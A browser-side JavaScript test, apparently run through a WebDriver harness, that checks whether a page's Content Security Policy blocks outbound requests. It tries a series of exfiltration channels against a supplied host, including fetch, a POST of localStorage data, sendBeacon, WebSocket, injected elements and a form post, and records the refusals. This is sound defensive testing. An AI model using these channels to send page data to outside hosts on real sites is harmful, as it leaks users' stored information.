// Tries every way that a script has to send something to another host, and gives what the policy refused.
const away = arguments[0];
const refused = [];
document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));

const load = (tag, address) => {
  const element = document.createElement(tag);
  element.src = away + address;
  document.body.append(element);
};
const submit = () => {
  const form = document.querySelector('form');
  form.action = away + 'form';
  form.method = 'post';
  form.target = '_blank';
  HTMLFormElement.prototype.submit.call(form);
};
const sheet = localStorage.getItem(`hoctap/sheet/cdht@324-2023/${document.querySelector('[name=year]').value}`);
const ways = [
  () => fetch(away + 'fetch'),
  () => fetch(away + 'post', { method: 'POST', mode: 'no-cors', body: sheet }),
  () => navigator.sendBeacon(away + 'beacon', sheet),
  () => new WebSocket(away.replace('http', 'ws') + 'socket'),
  () => new EventSource(away + 'events'),
  () => load('img', 'image'),
  () => load('script', 'script.js'),
  () => load('iframe', 'frame'),
  () => load('video', 'video'),
  submit,
];
for (const way of ways) {
  try { Promise.resolve(way()).catch(() => 0); } catch (refusal) { /* said by the event */ }
}
// What is refused is said when the browser comes to it; on a busy machine that takes a while.
const [, ...expected] = arguments;
const end = Date.now() + 25000;
const look = done => (expected.every(word => refused.includes(word)) || Date.now() > end
  ? done(refused)
  : setTimeout(look, 50, done));
return new Promise(look);
